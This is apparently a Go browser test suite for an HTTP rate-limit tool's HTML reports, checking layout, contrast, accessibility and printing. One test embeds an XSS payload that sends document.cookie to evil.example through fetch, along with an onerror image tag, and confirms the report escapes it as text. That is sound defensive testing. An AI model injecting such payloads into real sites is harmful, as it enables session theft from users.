package browser_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"testing"

	"github.com/chromedp/chromedp/kb"

	"github.com/httplimit/httplimit/e2e/browser"
)

// command is the module of the command.
var command = filepath.Join("..", "..", "cmd", "httplimit")

// samples has the report of every sample written, and serves them.
func samples(t *testing.T) *httptest.Server {
	t.Helper()
	folder := t.TempDir()
	run := exec.Command("go", "run", "./internal/report/sample/write", folder)
	run.Dir = command
	if out, err := run.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	server := httptest.NewServer(http.FileServerFS(os.DirFS(folder)))
	t.Cleanup(server.Close)
	return server
}

// shapes are what a picture's numbers are drawn with. The cells of the heat map are not among them: they begin pale,
// and their numbers stand in a table.
const shapes = "path.area, path.line, path.dot, path.limit, path.suggested, path.spell, path.axis"

func TestReports(t *testing.T) {
	t.Parallel()
	server, chromium := samples(t), browser.Start(t)
	names := []string{"day", "norefusals", "oneclient", "nopeople", "leftout", "minute", "hostile", "nothing"}
	for _, name := range names {
		for _, width := range []int64{375, 1024, 1600} {
			for _, dark := range []bool{false, true} {
				if dark && width != 1024 {
					continue // colours do not depend on the width
				}
				t.Run(fmt.Sprintf("%s/%d/dark=%v", name, width, dark), func(t *testing.T) {
					t.Parallel()
					p := chromium.Open(t, server.URL+"/"+name+".html", browser.Look{Width: width, Dark: dark})
					p.Screenshot(t, fmt.Sprintf("report-%s-%d-dark=%v", name, width, dark))
					none(t, "low contrast", p.LowContrast(t, shapes))
					none(t, "cut off", p.Cut(t))
					none(t, "nameless", p.Nameless(t))
					drawn(t, p)
					none(t, "request", p.Requests())
					none(t, "fault", p.Faults())
				})
			}
		}
	}
}

func none(t *testing.T, what string, found []string) {
	t.Helper()
	for i, it := range found {
		if i == 10 {
			t.Errorf("and %d more", len(found)-i)
			return
		}
		t.Errorf("%s: %s", what, it)
	}
}

// drawn checks that every rule that was not left out has its six pictures on the page: each with a title, a
// description, texts and shapes.
func drawn(t *testing.T, p *browser.Page) {
	t.Helper()
	type picture struct {
		Width, Height, Shapes, Texts int
		Title, Desc                  string
	}
	rules := browser.Eval[[][]picture](t, p, `
		[...document.querySelectorAll('section.rule:not(:has(.leftout))')].map(rule =>
		[...rule.querySelectorAll('svg')].filter(s => s.checkVisibility()).map(s => ({
			Width: Math.round(s.getBoundingClientRect().width),
			Height: Math.round(s.getBoundingClientRect().height),
			Shapes: s.querySelectorAll('path').length, Texts: s.querySelectorAll('text').length,
			Title: s.querySelector('title').textContent, Desc: s.querySelector('desc').textContent,
		})))`)
	for _, pictures := range rules {
		if len(pictures) != 6 {
			t.Errorf("a rule has %d pictures, want 6: %+v", len(pictures), pictures)
		}
		for _, it := range pictures {
			empty := it.Shapes == 0 && it.Desc != "Nobody would have been refused."
			if it.Width < 300 || it.Height < 50 || empty || it.Texts < 2 || it.Title == "" || it.Desc == "" {
				t.Errorf("not drawn or not labelled: %+v", it)
			}
		}
	}
}

func TestHostileTextsStayText(t *testing.T) {
	t.Parallel()
	p := browser.Start(t).Open(t, samples(t).URL+"/hostile.html", browser.Look{})
	type found struct {
		Elements, Texts int
		Title           string
	}
	got := browser.Eval[found](t, p, `({
		Elements: document.querySelectorAll(
			'script, img, iframe, object, [onerror], [onload], a[href^="javascript"]').length,
		Texts: [...document.querySelectorAll('.refused td')]
			.filter(e => e.textContent.includes("<script>fetch('//evil.example/'")).length,
		Title: document.title,
	})`)
	const title = `What "><script>fetch('//evil.example/'+document.cookie)</script>` +
		`<img src=//evil.example/x onerror=alert(1)> would have refused`
	if got.Elements != 0 || got.Texts == 0 || got.Title != title {
		t.Errorf("%d elements of theirs, %d cells with their text, title %q", got.Elements, got.Texts, got.Title)
	}
	none(t, "request", p.Requests())
	none(t, "fault", p.Faults())
}

func TestKeyboard(t *testing.T) {
	t.Parallel()
	server, chromium := samples(t), browser.Start(t)
	for _, width := range []int64{375, 1600} {
		p := chromium.Open(t, server.URL+"/day.html", browser.Look{Width: width})
		order, all := p.FocusOrder(t)
		if len(order) != all {
			t.Errorf("at %d the keyboard reaches %d of %d: %v", width, len(order), all, order)
		}
		for i, at := range order {
			if at.Index != i || !at.Visible {
				t.Errorf("at %d, step %d is %+v", width, i, at)
			}
		}
	}

	p := chromium.Open(t, server.URL+"/day.html", browser.Look{})
	p.Press(t, kb.Tab, kb.Enter)
	if at := browser.Eval[string](t, p, `document.activeElement.id`); at != "main" {
		t.Errorf("the first link skips to %q, want main", at)
	}
	browser.Eval[bool](t, p, `document.querySelector('summary').focus(), true`)
	p.Press(t, kb.Enter)
	if !browser.Eval[bool](t, p, `document.querySelector('details').open`) {
		t.Error("Enter does not open the numbers of a picture")
	}
}

func TestPrinted(t *testing.T) {
	t.Parallel()
	p := browser.Start(t).Open(t, samples(t).URL+"/day.html", browser.Look{Width: 700, Dark: true, Print: true})
	type look struct {
		Paper string
		Nav   bool
	}
	got := browser.Eval[look](t, p, `({Paper: getComputedStyle(document.body).backgroundColor,
		Nav: document.querySelector('nav').checkVisibility()})`)
	if got.Paper != "rgb(255, 255, 255)" || got.Nav {
		t.Errorf("printed on %s with contents %v, want light and none", got.Paper, got.Nav)
	}
	none(t, "low contrast", p.LowContrast(t, shapes))
	drawn(t, p)
}

// A page of fifty rules is long, not slow.
func TestManyRules(t *testing.T) {
	t.Parallel()
	p := browser.Start(t).Open(t, samples(t).URL+"/manyrules.html", browser.Look{NoScripts: true})
	if rules := browser.Eval[int](t, p, `document.querySelectorAll('section.rule').length`); rules != 50 {
		t.Errorf("%d rules, want 50", rules)
	}
	drawn(t, p)
	none(t, "fault", p.Faults())
}
